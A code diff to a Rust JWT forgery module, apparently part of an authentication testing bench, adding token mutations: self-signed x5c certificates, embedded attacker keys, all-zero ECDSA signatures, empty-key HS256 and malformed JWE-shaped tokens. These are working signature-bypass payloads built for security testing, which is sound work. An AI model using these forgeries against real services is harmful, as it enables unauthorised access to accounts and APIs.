@@ -23,7 +23,7 @@ pub struct JwtForge {
     target: JwtTarget,
     header_template: Map<String, Value>,
     claims_template: Map<String, Value>,
-    attacker: OnceLock<Option<(EncodingKey, Jwk)>>,
+    attacker: OnceLock<Option<(EncodingKey, Jwk, rcgen::KeyPair)>>,
 }
 
 fn now() -> i64 {
@@ -151,6 +151,15 @@ impl JwtForge {
 
     /// A valid token: the profile's, or one minted with its key.
     pub fn valid_token(&self) -> Result<String, Skip> {
+        self.valid_token_inner()
+    }
+
+    /// The resource URL this forge's tokens are for.
+    pub fn url(&self) -> &url::Url {
+        &self.target.url
+    }
+
+    fn valid_token_inner(&self) -> Result<String, Skip> {
         match &self.target.token {
             Some(t) => Ok(t.clone()),
             None => self.sign(&self.header_template, &self.fresh_claims()),
@@ -171,36 +180,57 @@ impl JwtForge {
         )
     }
 
-    fn attacker_key(&self) -> Result<&(EncodingKey, Jwk), Skip> {
-        self.attacker
-            .get_or_init(|| {
-                let alg = match self.target.algorithm {
-                    a @ (Algorithm::ES256 | Algorithm::EdDSA) => a,
-                    _ => Algorithm::RS256,
-                };
-                let pair = match alg {
-                    Algorithm::ES256 => {
-                        rcgen::KeyPair::generate_for(&rcgen::PKCS_ECDSA_P256_SHA256).ok()?
-                    }
-                    Algorithm::EdDSA => rcgen::KeyPair::generate_for(&rcgen::PKCS_ED25519).ok()?,
-                    _ => rcgen::KeyPair::generate_rsa_for(
-                        &rcgen::PKCS_RSA_SHA256,
-                        rcgen::RsaKeySize::_2048,
-                    )
-                    .ok()?,
-                };
-                let pem = pair.serialize_pem();
-                let key = match alg {
-                    Algorithm::ES256 => EncodingKey::from_ec_pem(pem.as_bytes()).ok()?,
-                    Algorithm::EdDSA => {
-                        EncodingKey::from_ed_der(&v1_ed25519(pair.serialized_der())?)
-                    }
-                    _ => EncodingKey::from_rsa_pem(pem.as_bytes()).ok()?,
-                };
-                let jwk = Jwk::from_encoding_key(&key, alg).ok()?;
-                Some((key, jwk))
+    fn attacker_alg(&self) -> Algorithm {
+        match self.target.algorithm {
+            a @ (Algorithm::ES256 | Algorithm::EdDSA) => a,
+            _ => Algorithm::RS256,
+        }
+    }
+
+    /// A self-signed certificate for the attacker key, base64 DER (as `x5c` holds it).
+    fn attacker_certificate(&self) -> Result<String, Skip> {
+        self.attacker_pair()
+            .and_then(|pair| {
+                let params =
+                    rcgen::CertificateParams::new(vec!["attacker.authbench.invalid".to_owned()])
+                        .ok()?;
+                params.self_signed(pair).ok()
             })
+            .map(|cert| STANDARD.encode(cert.der()))
+            .ok_or_else(|| Skip("could not make an attacker certificate".to_owned()))
+    }
+
+    fn attacker_pair(&self) -> Option<&rcgen::KeyPair> {
+        self.attacker.get_or_init(|| self.make_attacker()).as_ref().map(|(_, _, pair)| pair)
+    }
+
+    fn make_attacker(&self) -> Option<(EncodingKey, Jwk, rcgen::KeyPair)> {
+        let alg = self.attacker_alg();
+        let pair = match alg {
+            Algorithm::ES256 => {
+                rcgen::KeyPair::generate_for(&rcgen::PKCS_ECDSA_P256_SHA256).ok()?
+            }
+            Algorithm::EdDSA => rcgen::KeyPair::generate_for(&rcgen::PKCS_ED25519).ok()?,
+            _ => {
+                rcgen::KeyPair::generate_rsa_for(&rcgen::PKCS_RSA_SHA256, rcgen::RsaKeySize::_2048)
+                    .ok()?
+            }
+        };
+        let pem = pair.serialize_pem();
+        let key = match alg {
+            Algorithm::ES256 => EncodingKey::from_ec_pem(pem.as_bytes()).ok()?,
+            Algorithm::EdDSA => EncodingKey::from_ed_der(&v1_ed25519(pair.serialized_der())?),
+            _ => EncodingKey::from_rsa_pem(pem.as_bytes()).ok()?,
+        };
+        let jwk = Jwk::from_encoding_key(&key, alg).ok()?;
+        Some((key, jwk, pair))
+    }
+
+    fn attacker_key(&self) -> Result<(&EncodingKey, &Jwk), Skip> {
+        self.attacker
+            .get_or_init(|| self.make_attacker())
             .as_ref()
+            .map(|(key, jwk, _)| (key, jwk))
             .ok_or_else(|| Skip("could not generate an attacker key".to_owned()))
     }
 
@@ -293,12 +323,50 @@ impl JwtForge {
                 header.insert("alg".into(), json!("HS256"));
                 hmac_sign(&text(&header), &text(&claims), b"")
             }
+            JwtMutation::SelfSignedX5c => {
+                let (key, _) = self.attacker_key()?;
+                let cert = self.attacker_certificate()?;
+                let alg = self.attacker_alg();
+                header.insert("alg".into(), json!(alg_name(alg)));
+                header.insert("kid".into(), json!("authbench-attacker"));
+                header.insert("x5c".into(), json!([cert]));
+                sign_json(&text(&header), &text(&claims), key, alg)?
+            }
+            JwtMutation::JsonSerialization => {
+                let t = self.signed(&header, &claims)?;
+                let parts: Vec<&str> = t.split('.').collect();
+                json!({ "protected": parts[0], "payload": parts.get(1), "signature": parts.get(2) })
+                    .to_string()
+            }
+            JwtMutation::EcdsaZeroSignature => {
+                let size = match self.target.algorithm {
+                    Algorithm::ES256 => 64,
+                    Algorithm::ES384 => 96,
+                    _ => return Err(Skip("r = s = 0 applies to ECDSA resources only".to_owned())),
+                };
+                format!(
+                    "{}.{}.{}",
+                    b64(text(&header).as_bytes()),
+                    b64(text(&claims).as_bytes()),
+                    b64(&vec![0u8; size])
+                )
+            }
+            JwtMutation::JweShaped => {
+                let jwe_header =
+                    json!({ "alg": "RSA-OAEP", "enc": "A256GCM", "typ": "at+jwt" }).to_string();
+                let junk = |n: usize| b64(random_string(ALNUM, n).as_bytes());
+                format!(
+                    "{}.{}.{}.{}.{}",
+                    b64(jwe_header.as_bytes()),
+                    junk(256),
+                    junk(12),
+                    junk(64),
+                    junk(16)
+                )
+            }
             JwtMutation::EmbeddedJwk | JwtMutation::JkuElsewhere | JwtMutation::X5uElsewhere => {
                 let (key, jwk) = self.attacker_key()?;
-                let alg = match self.target.algorithm {
-                    a @ (Algorithm::ES256 | Algorithm::EdDSA) => a,
-                    _ => Algorithm::RS256,
-                };
+                let alg = self.attacker_alg();
                 header.insert("alg".into(), json!(alg_name(alg)));
                 header.insert("kid".into(), json!("authbench-attacker"));
                 match mutation {
